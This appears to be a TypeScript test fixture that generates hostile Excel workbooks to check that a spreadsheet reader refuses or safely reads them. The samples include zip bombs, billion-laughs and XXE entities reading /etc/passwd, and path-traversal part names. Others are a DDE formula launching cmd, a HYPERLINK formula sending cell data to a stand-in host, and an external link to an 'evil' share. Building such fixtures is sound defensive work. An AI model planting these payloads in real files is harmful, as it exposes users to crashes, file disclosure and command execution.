import type { RefusalReason } from '../../xlsx/index.ts';
import {
  handMade,
  numberCell,
  partsOf,
  relation,
  relationships,
  rows,
  spreadsheetPart,
  textCell,
  type HandMade,
} from '../xlsx-lint/hand-made.ts';
import { zipOf, type ZipPart } from '../xlsx-lint/zip-writer.ts';
import { zipWithGiant, type GiantPart } from './giant-part.ts';

/** A file that exhausts, deceives or attacks careless readers, and what is to become of it. */
export interface HostileFile {
  readonly name: string;
  readonly make: () => Uint8Array;
  readonly fate: 'read' | RefusalReason;
}

const sheetPart = 'xl/worksheets/sheet1.xml';
const worksheetStart =
  '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">';
const worksheetEnd = '</sheetData></worksheet>';
const usualRows = rows(textCell('A1', 'x') + numberCell('B1', 5));
const gigabyte = 2 ** 30;

function book(xml: string, rest: Partial<HandMade> = {}): () => Uint8Array {
  return () => handMade({ sheets: [{ name: 'S', xml }], ...rest });
}

/** A usual workbook with something after its rows. */
function after(xml: string): () => Uint8Array {
  return book(usualRows + xml);
}

function names(xml: string): () => Uint8Array {
  return book(usualRows, { workbookEnd: `<definedNames>${xml}</definedNames>` });
}

function zipPartsWithout(name: string): readonly ZipPart[] {
  const parts = partsOf({ sheets: [{ name: 'S', xml: usualRows }] });
  return Object.entries(parts)
    .filter(([part]) => part !== name)
    .map(([name, content]) => ({ name, content }));
}

function giant(part: GiantPart): () => Uint8Array {
  return () => zipWithGiant(zipPartsWithout(part.name), part);
}

function replaced(parts: Readonly<Record<string, string>>): () => Uint8Array {
  return book(usualRows, { parts });
}

function sheetWithDoctype(declarations: string, text: string): string {
  return `<?xml version="1.0"?><!DOCTYPE x [${declarations}]>${worksheetStart.slice(21)}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>${worksheetEnd}`;
}

const laughs = [
  '<!ENTITY a "lollollollollollollollollollol">',
  ...Array.from({ length: 8 }, (_, index) => {
    const letter = (offset: number) => String.fromCharCode(97 + index + offset);
    return `<!ENTITY ${letter(1)} "${`&${letter(0)};`.repeat(10)}">`;
  }),
].join('');

function manyRows(row: (number: number) => string): () => Uint8Array {
  return () => {
    const xml = Array.from({ length: 1_048_576 }, (_, index) => row(index + 1)).join('');
    return handMade({ sheets: [{ name: 'S', xml: `<sheetData>${xml}</sheetData>` }] });
  };
}

/** 2,000 records of the directory that share one part of 10 MB. */
function overlapping(): Uint8Array {
  const zip = Buffer.from(
    zipOf([...zipPartsWithout(''), { name: 'xl/media/a0000.xml', content: ' '.repeat(10 << 20) }]),
  );
  const end = zip.lastIndexOf('PK\u0005\u0006', undefined, 'latin1');
  const start = zip.readUInt32LE(end + 16);
  const last = zip.subarray(zip.lastIndexOf('PK\u0001\u0002', undefined, 'latin1'), end).toString('latin1');
  const copies = Array.from({ length: 1_999 }, (_, index) =>
    Buffer.from(last.replace('a0000', `a${String(index + 1).padStart(4, '0')}`), 'latin1'),
  );
  const directory = Buffer.concat([zip.subarray(start, end), ...copies]);
  const endRecord = Buffer.from(zip.subarray(end));
  const count = endRecord.readUInt16LE(8) + copies.length;
  endRecord.writeUInt16LE(count, 8);
  endRecord.writeUInt16LE(count, 10);
  endRecord.writeUInt32LE(directory.length, 12);
  return new Uint8Array(Buffer.concat([zip.subarray(0, start), directory, endRecord]));
}

/** A workbook whose numbers do not compress, so that there is a middle to damage. */
function usual(): Uint8Array {
  let seed = 1;
  const next = () => (seed = (seed * 48_271) % 2_147_483_647);
  const row = (number: number) =>
    Array.from({ length: 10 }, (_, index) => numberCell(`${'ABCDEFGHIJ'[index]}${number}`, next()));
  return handMade({
    sheets: [{ name: 'S', xml: rows(...Array.from({ length: 2_000 }, (_, index) => row(index + 1).join(''))) }],
  });
}

function damaged(change: (bytes: Buffer) => readonly Uint8Array[]): () => Uint8Array {
  return () => new Uint8Array(Buffer.concat(change(Buffer.from(usual()))));
}

function bytes(text: string): () => Uint8Array {
  return () => new Uint8Array(Buffer.from(text, 'latin1'));
}

const zeros = (count: number) => new Uint8Array(count);

const bombs: readonly HostileFile[] = [
  {
    name: 'a sheet of a gigabyte of spaces',
    make: giant({
      name: sheetPart,
      head: `${worksheetStart}<sheetData>`,
      unit: ' ',
      bytes: gigabyte,
      tail: worksheetEnd,
    }),
    fate: 'too-big',
  },
  {
    name: '600 MB of shared strings',
    make: giant({
      name: 'xl/sharedStrings.xml',
      head: '<sst>',
      unit: `<si><t>${'a'.repeat(55)}</t></si>`,
      bytes: 600 * 2 ** 20,
      tail: '</sst>',
    }),
    fate: 'too-big',
  },
  {
    name: 'five million rows',
    make: giant({
      name: sheetPart,
      head: `${worksheetStart}<sheetData>`,
      unit: '<row><c><v>1</v></c></row>',
      bytes: 26 * 5_000_000,
      tail: worksheetEnd,
    }),
    fate: 'too-big',
  },
  {
    name: 'a million elements, one in the other',
    make: giant({ name: sheetPart, head: worksheetStart, unit: '<a>', bytes: 3_000_000 }),
    fate: 'too-big',
  },
  {
    name: 'a gigabyte in a picture',
    make: giant({ name: 'xl/media/image1.png', unit: ' ', bytes: gigabyte }),
    fate: 'read',
  },
  {
    name: 'a directory that claims 2,000 bytes of 400 MB',
    make: giant({
      name: sheetPart,
      head: `${worksheetStart}<sheetData>`,
      unit: ' ',
      bytes: 400 * 2 ** 20,
      tail: worksheetEnd,
      claimedSize: 2_000,
    }),
    fate: 'damaged',
  },
  {
    name: '65,000 parts',
    make: () =>
      zipOf([
        ...zipPartsWithout(''),
        ...Array.from({ length: 65_000 }, (_, index) => ({ name: `junk/${index}.txt`, content: '', stored: true })),
      ]),
    fate: 'too-big',
  },
  { name: '2,000 parts in the same place', make: overlapping, fate: 'read' },
];

const xml: readonly HostileFile[] = [
  {
    name: 'a billion laughs in a sheet',
    make: replaced({ [sheetPart]: sheetWithDoctype(laughs, '&i;') }),
    fate: 'suspicious',
  },
  {
    name: 'a billion laughs in the shared strings',
    make: replaced({
      'xl/sharedStrings.xml': `<?xml version="1.0"?><!DOCTYPE x [${laughs}]><sst><si><t>&i;</t></si></sst>`,
    }),
    fate: 'suspicious',
  },
  {
    name: 'a long entity, 50,000 times',
    make: replaced({ [sheetPart]: sheetWithDoctype(`<!ENTITY a "${'A'.repeat(100_000)}">`, '&a;'.repeat(50_000)) }),
    fate: 'suspicious',
  },
  {
    name: 'a reach for /etc/passwd',
    make: replaced({ [sheetPart]: sheetWithDoctype('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;') }),
    fate: 'suspicious',
  },
  {
    name: '100,000 attributes',
    make: book(
      `<sheetData><row r="1" ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(' ')}><c r="A1"><v>1</v></c></row></sheetData>`,
    ),
    fate: 'read',
  },
  {
    name: 'an attribute of 30 MB',
    make: () =>
      handMade({
        sheets: [
          {
            name: 'S',
            xml: `<sheetData><row r="1" x="${'a'.repeat(30_000_000)}"><c r="A1"><v>1</v></c></row></sheetData>`,
          },
        ],
      }),
    fate: 'too-big',
  },
  {
    name: '300,000 closing brackets in an attribute',
    make: book(`<sheetData><row r="1" x="${'>'.repeat(300_000)}"><c r="A1"><v>1</v></c></row></sheetData>`),
    fate: 'read',
  },
];

const corners: readonly HostileFile[] = [
  {
    name: 'a cell in the last corner of the sheet',
    make: book(
      '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>',
    ),
    fate: 'read',
  },
  {
    name: 'a cell far outside',
    make: book('<sheetData><row r="4294967295"><c r="ZZZZZZ999999999"><v>2</v></c></row></sheetData>'),
    fate: 'read',
  },
  {
    name: 'fifty rows over the whole width and height',
    make: book(
      `<sheetData>${Array.from({ length: 50 }, (_, index) => {
        const row = index * 20_000 + 1;
        return `<row r="${row}"><c r="A${row}"><v>1</v></c><c r="XFD${row}"><v>2</v></c></row>`;
      }).join('')}</sheetData>`,
    ),
    fate: 'read',
  },
  {
    name: 'a million formatted empty rows',
    make: manyRows((row) => `<row r="${row}"><c r="A${row}" s="1"/><c r="B${row}" s="1"/><c r="C${row}" s="1"/></row>`),
    fate: 'read',
  },
  {
    name: 'a million empty rows with a height',
    make: manyRows((row) => `<row r="${row}" ht="15" customHeight="1"/>`),
    fate: 'read',
  },
  {
    name: 'lists over whole columns',
    make: after(
      '<dataValidations count="2"><dataValidation type="list" sqref="C2:C1048576"><formula1>"a,b"</formula1></dataValidation><dataValidation type="list" sqref="D:D E:H"><formula1>"a"</formula1></dataValidation></dataValidations>',
    ),
    fate: 'read',
  },
  {
    name: 'a list over the whole sheet',
    make: after(
      '<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
    ),
    fate: 'read',
  },
  {
    name: 'a list over one column',
    make: after(
      '<dataValidations count="1"><dataValidation type="list" sqref="C2:C1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
    ),
    fate: 'read',
  },
  {
    name: 'a merge over the whole sheet',
    make: after('<mergeCells count="1"><mergeCell ref="C2:XFD1048576"/></mergeCells>'),
    fate: 'read',
  },
  {
    name: 'a merge over a column',
    make: after('<mergeCells count="1"><mergeCell ref="C1:C1048576"/></mergeCells>'),
    fate: 'read',
  },
  {
    name: 'a name for the whole sheet',
    make: names('<definedName name="Alles">S!$A$1:$XFD$1048576</definedName>'),
    fate: 'read',
  },
  {
    name: 'a filter over 14 whole columns',
    make: names(
      '<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">S!$A$1:$N$1048576</definedName>',
    ),
    fate: 'read',
  },
  {
    name: 'names for ten long columns',
    make: names(
      'ABCDEFGHIJ'
        .split('')
        .map((column, index) => `<definedName name="n${index}">S!$${column}$1:$${column}$65536</definedName>`)
        .join(''),
    ),
    fate: 'read',
  },
  {
    name: 'a conditional format over the whole sheet',
    make: after(
      '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>',
    ),
    fate: 'read',
  },
  {
    name: 'a width for every column',
    make: book(`<cols><col min="1" max="16384" width="9" style="1"/></cols>${usualRows}`),
    fate: 'read',
  },
  {
    name: 'a table down to the last row',
    make: () =>
      handMade({
        sheets: [
          {
            name: 'S',
            xml: `${usualRows}<tableParts count="1"><tablePart r:id="rId1"/></tableParts>`,
            relations: relation('rId1', 'table', '../tables/table1.xml'),
          },
        ],
        parts: {
          'xl/tables/table1.xml': spreadsheetPart(
            'table',
            '<autoFilter ref="A1:B1048576"/><tableColumns count="2"><tableColumn id="1" name="x"/><tableColumn id="2" name="5"/></tableColumns>',
            'id="1" name="T" displayName="T" ref="A1:B1048576"',
          ),
        },
      }),
    fate: 'read',
  },
];

const texts: readonly HostileFile[] = [
  {
    name: 'part names that climb out of the folder',
    make: replaced({
      '../../../../tmp/evil.xml': '<a/>',
      '/etc/evil.xml': '<a/>',
      'xl/../../x.xml': '<a/>',
      'C:\\evil.xml': '<a/>',
    }),
    fate: 'read',
  },
  ...[
    { name: 'a number format of 200,000 brackets', code: '['.repeat(200_000) },
    { name: 'a number format with an open quote', code: `"${'a'.repeat(100_000)}` },
    { name: 'a number format of brackets and quotes', code: '["'.repeat(60_000) },
  ].map(({ name, code }): HostileFile => ({
    name,
    make: book(rows(numberCell('A1', 45_292, 1) + numberCell('B1', 1, 1)), { formats: [code] }),
    fate: 'read',
  })),
  {
    name: 'a text of 50 MB',
    make: () => handMade({ sheets: [{ name: 'S', xml: rows(textCell('A1', 'a'.repeat(50_000_000))) }] }),
    fate: 'too-big',
  },
  {
    name: 'a megabyte of text in 40,000 cells',
    make: () =>
      handMade({
        sheets: [
          {
            name: 'S',
            xml: `<sheetData>${Array.from({ length: 40_000 }, (_, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="s"><v>0</v></c></row>`).join('')}</sheetData>`,
          },
        ],
        strings: `<si><t>${'abcdefgh'.repeat(125_000)}</t></si>`,
      }),
    fate: 'too-big',
  },
  {
    name: 'formulas that start programs',
    make: book(
      rows(
        `<c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c>${textCell('B1', '=HYPERLINK("http://x/?"&amp;A1)')}${textCell('C1', '@SUM(1)')}${textCell('D1', '+1+1')}${textCell('E1', '-2+3')}${textCell('F1', '\t=1')}`,
      ),
    ),
    fate: 'read',
  },
  {
    name: 'a link to a file on a foreign server',
    make: book(usualRows, {
      relations: relation('rId70', 'externalLink', 'externalLinks/externalLink1.xml'),
      parts: {
        'xl/externalLinks/externalLink1.xml': spreadsheetPart(
          'externalLink',
          '<externalBook r:id="rId1"><sheetNames><sheetName val="T"/></sheetNames></externalBook>',
        ),
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil\\share\\x.xlsx" TargetMode="External"/>',
        ),
      },
    }),
    fate: 'read',
  },
  {
    name: 'macros',
    make: book(usualRows, {
      parts: { 'xl/vbaProject.bin': new Uint8Array(Buffer.concat([Buffer.from('d0cf11e0', 'hex'), zeros(508)])) },
    }),
    fate: 'read',
  },
];

const broken: readonly HostileFile[] = [
  { name: 'nothing', make: () => zeros(0), fate: 'empty' },
  {
    name: "the note beside somebody's open workbook",
    make: () =>
      new Uint8Array(Buffer.concat([Buffer.from('\u000bMaxMustermn'), Buffer.from(' '.repeat(43)), zeros(111)])),
    fate: 'lock-file',
  },
  { name: 'zeros', make: () => zeros(80_000), fate: 'all-zero' },
  { name: 'the first half', make: damaged((file) => [file.subarray(0, file.length / 2)]), fate: 'half-synced' },
  { name: 'all but the end', make: damaged((file) => [file.subarray(0, -30)]), fate: 'half-synced' },
  {
    name: 'zeros at the end',
    make: damaged((file) => [file.subarray(0, 40_000), zeros(file.length - 40_000)]),
    fate: 'half-synced',
  },
  {
    name: 'zeros in the middle',
    make: damaged((file) => [file.subarray(0, 20_000), zeros(4_096), file.subarray(24_096)]),
    fate: 'damaged',
  },
  { name: 'junk before it', make: damaged((file) => [Buffer.from('junk'.repeat(10)), file]), fate: 'not-a-workbook' },
  { name: 'zeros after it', make: damaged((file) => [file, zeros(500)]), fate: 'read' },
  { name: 'a CSV', make: bytes('a;b\n1;2\n'), fate: 'text' },
  { name: 'a web page', make: bytes('<html><table><tr><td>1</td></tr></table></html>'), fate: 'html' },
  { name: 'a PDF', make: bytes(`%PDF-1.4\n%\xe2\xe3${'x'.repeat(1000)}`), fate: 'not-a-workbook' },
  { name: 'a zip of anything', make: () => zipOf([{ name: 'a.txt', content: 'x' }]), fate: 'not-a-workbook' },
  {
    name: 'a Word document',
    make: () =>
      zipOf([
        { name: 'word/document.xml', content: 'x' },
        { name: '[Content_Types].xml', content: '<Types/>' },
      ]),
    fate: 'not-a-workbook',
  },
];

export const hostileFiles: readonly HostileFile[] = [...bombs, ...xml, ...corners, ...texts, ...broken];
